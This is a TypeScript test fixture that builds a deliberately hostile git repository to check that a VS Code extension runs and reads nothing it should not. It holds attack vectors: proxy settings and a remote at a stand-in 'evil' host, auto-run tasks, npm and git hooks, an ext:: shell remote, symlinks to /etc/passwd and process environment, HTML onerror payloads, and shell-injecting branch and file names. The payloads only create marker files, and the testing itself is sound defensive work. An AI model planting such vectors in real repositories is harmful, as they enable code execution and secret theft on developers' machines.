// Creates a repository that is as hostile as possible: it tries to redirect requests, to run
// programs and to read files. Whatever runs leaves a mark.
import { chmodSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { GitRepository } from './gitRepository.ts';
import { root } from './setup/paths.mjs';

/**
 * The file that is created, in the current folder, by what runs through the name of a branch or a file. It has no
 * leading dot, because no part of a branch name may start with one.
 */
const MARK = 'marked';

interface Manifest {
  readonly contributes: {
    readonly configuration: readonly {
      readonly properties: Readonly<Record<string, { readonly type: string; readonly enum?: readonly string[] }>>;
    }[];
  };
}

/**
 * Settings of VS Code and of its git extension that would redirect requests or run a program if they were read from a
 * folder.
 */
function foreignSettings(evil: string, program: string, shell = program): Readonly<Record<string, unknown>> {
  return {
    'http.proxy': evil,
    'http.proxyStrictSSL': false,
    'http.proxySupport': 'override',
    'http.proxyAuthorization': 'Basic ZXZpbDpldmls',
    'http.noProxy': [],
    'http.systemCertificates': false,
    'git.path': program,
    'git.terminalAuthentication': true,
    'task.allowAutomaticTasks': 'on',
    'terminal.integrated.env.linux': { HTTPS_PROXY: evil, BASH_ENV: shell },
    'terminal.integrated.automationProfile.linux': { path: shell },
    'markdown.styles': [`${evil}/style.css`],
    'security.workspace.trust.enabled': false,
  };
}

/**
 * Returns a hostile value for every setting of Contrail that is not a choice between fixed values, for some settings
 * that it does not have, and for settings of VS Code and other extensions.
 */
export function hostileSettings(evil: string, program: string, shell = program): Readonly<Record<string, unknown>> {
  const { contributes }: Manifest = JSON.parse(readFileSync(join(root, 'package.json'), 'utf8'));
  const free = contributes.configuration
    .flatMap(({ properties }) => Object.entries(properties))
    .filter(([, setting]) => setting.enum === undefined);
  const ours = free.map(([id, { type }]): [string, unknown] => [id, type === 'boolean' ? true : evil]);
  const made = ['server', 'baseUrl', 'url', 'apiKey', 'token', 'proxy', 'ca'].map((name): [string, unknown] => [
    `contrail.${name}`,
    evil,
  ]);
  return { ...Object.fromEntries([...ours, ...made]), ...foreignSettings(evil, program, shell) };
}

export interface HostileOptions {
  /** Origin of a server that the repository tries to redirect requests to. */
  readonly evil: string;
  /** A folder outside of the repository in which everything that runs creates an empty file. */
  readonly marks: string;
  /** Text in files that must not be read: in `.env`, and in a folder that symbolic links lead to. */
  readonly secret: string;
  /** An identifier that the text mentions. */
  readonly identifier: string;
}

/** Creates the repository in the folder, which may contain files already. */
export function makeHostileRepository(
  folder: string,
  { evil, marks, secret, identifier }: HostileOptions,
): GitRepository {
  mkdirSync(marks, { recursive: true });
  const mark = (name: string): string => join(marks, name);
  const program = writeProgram(marks, 'program');
  const shell = writeProgram(marks, 'vscode-shell');
  const made = GitRepository.empty(folder);
  made.write('.vscode/settings.json', JSON.stringify(hostileSettings(evil, program, shell)));
  writePrograms(made, evil, program, mark);
  writeText(made, { evil, marks, secret, identifier });
  writeLinks(folder, join(marks, '..', 'outside'), secret, identifier);
  made.commit(`Begin\n\n[${identifier}](command:contrail.signOut) $(touch ${mark('message')})`);
  writeConfiguration(made, mark);
  writeBranches(made, identifier);
  return made;
}

/** Returns the names of what has run, from the folder of marks and from the repository itself. */
export function marksIn(marks: string, repository: string): string[] {
  return [...readdirSync(marks), ...readdirSync(repository).filter((name) => name === MARK)].sort();
}

/** Writes a program that leaves a mark, and returns its path. */
function writeProgram(marks: string, name: string): string {
  const file = join(marks, '..', `${name}.sh`);
  writeFileSync(file, `#!/bin/sh\ntouch '${join(marks, name)}'\n`);
  chmodSync(file, 0o755);
  return file;
}

/**
 * Writes configuration files of tools that run something. VS Code itself runs the tasks, in its terminal, once the
 * folder is trusted.
 */
function writePrograms(made: GitRepository, evil: string, program: string, mark: (name: string) => string): void {
  const shell = (name: string) => ({
    label: name,
    type: 'shell',
    command: `touch '${mark(`vscode-${name}`)}'`,
    runOptions: { runOn: 'folderOpen' },
  });
  made.write(
    '.vscode/tasks.json',
    JSON.stringify({ version: '2.0.0', tasks: [shell('task'), { ...shell('build'), group: 'build' }] }),
  );
  made.write(
    '.vscode/launch.json',
    JSON.stringify({
      configurations: [{ type: 'node', request: 'launch', name: 'go', program, preLaunchTask: 'task' }],
    }),
  );
  made.write('.vscode/extensions.json', JSON.stringify({ recommendations: ['evil.evil'] }));
  made.write('package.json', JSON.stringify({ name: 'hostile', scripts: { postinstall: program, test: program } }));
  made.write('.npmrc', `registry=${evil}/\nproxy=${evil}\nscript-shell=${program}\n`);
  made.write('.gitattributes', '*.md filter=evil diff=evil\n');
  made.write('.editorconfig', 'root = true\n');
}

function writeText(made: GitRepository, { evil, marks, secret, identifier }: HostileOptions): void {
  made.write(
    '.env',
    `PLANE_API_KEY=${secret}\nHTTPS_PROXY=${evil}\nNODE_TLS_REJECT_UNAUTHORIZED=0\nTICKET=${identifier}\n`,
  );
  const text = [
    `# ${identifier}](command:contrail.signOut) and [${identifier}](command:workbench.action.terminal.new)`,
    `${identifier}<img src="${evil}/${identifier}.png" onerror="fetch('${evil}')">`,
    `![${identifier}](${evil}/pixel.png) <a href="command:workbench.action.quit">${identifier}</a>`,
    `vscode://contrail.contrail/open?server=${evil}&workspace=acme&item=${identifier}`,
    `TODO(${identifier}): $(touch ${join(marks, 'text')}) \`touch ${join(marks, 'text')}\``,
    `$(${identifier}) \${command:contrail.signOut} {{${identifier}}} \u202e${identifier}\u202c`,
    '',
  ].join('\n');
  for (const name of [
    'notes.md',
    'code.py',
    'command:contrail.signOut.md',
    '[link](command:contrail.signOut).md',
    'with\nnewline.md',
    `quote"'\`.md`,
    `$(touch ${MARK}).md`,
    '-rf.md',
    '<img src=x onerror=alert(1)>.md',
    'right\u202eto-left.md',
    '%2e%2e%2f.md',
  ]) {
    made.write(name, text);
  }
}

/** Writes symbolic links to files and folders outside, to system files, and in a cycle. */
function writeLinks(folder: string, outside: string, secret: string, identifier: string): void {
  mkdirSync(outside, { recursive: true });
  writeFileSync(join(outside, 'outside.md'), `${identifier} ${secret}\n`);
  for (const [name, target] of [
    ['linked.md', join(outside, 'outside.md')],
    ['linked', outside],
    ['passwd.md', '/etc/passwd'],
    ['environ.md', '/proc/self/environ'],
    ['endless.md', '/dev/zero'],
    ['ring', '.'],
  ] as const) {
    symlinkSync(target, join(folder, name));
  }
}

/**
 * Writes configuration that makes git itself run programs. VS Code's git extension does not use it until the folder is
 * trusted.
 */
function writeConfiguration(made: GitRepository, mark: (name: string) => string): void {
  const touch = (name: string): string => `touch '${mark(`git-${name}`)}'`;
  made.remote('origin', `ext::sh -c touch% ${mark('remote')}`);
  made.remote('other', `https://mara:token@evil.example/$(touch\${IFS}${mark('url')}).git`);
  made.run('config', 'core.fsmonitor', `${touch('fsmonitor')}; false`);
  made.run('config', 'core.sshCommand', touch('ssh'));
  made.run('config', 'filter.evil.smudge', `${touch('filter')}; cat`);
  made.run('config', 'protocol.ext.allow', 'always');
  const hooks = join(made.folder, '.git', 'hooks');
  mkdirSync(hooks, { recursive: true });
  for (const hook of ['post-checkout', 'pre-commit', 'post-index-change', 'reference-transaction']) {
    writeFileSync(join(hooks, hook), `#!/bin/sh\n${touch(hook)}\n`);
    chmodSync(join(hooks, hook), 0o755);
  }
}

/**
 * Writes branches whose names git allows and a shell, a command line or a page could interpret as something else. The
 * first one is checked out.
 */
function writeBranches(made: GitRepository, identifier: string): void {
  const touch = `touch\${IFS}${MARK}`;
  const names = [
    `${identifier}-$(${touch})`,
    `${identifier};${touch};`,
    `${identifier}|${touch}`,
    `\`${touch}\``,
    `--upload-pack=${touch}`,
    '-b',
    `"${identifier}"`,
    `${identifier}<img/src=x>`,
    `${identifier}&${touch}`,
    `${identifier.replace('W', 'Ш')}-пр\u0430во`,
  ];
  const head = made.head;
  // Writes the ref files directly, because git would run the hooks that exist by now.
  for (const name of names) {
    const file = join(made.folder, '.git', 'refs', 'heads', ...name.split('/'));
    mkdirSync(join(file, '..'), { recursive: true });
    writeFileSync(file, `${head}\n`);
  }
  writeFileSync(join(made.folder, '.git', 'HEAD'), `ref: refs/heads/${names[0] ?? ''}\n`);
}
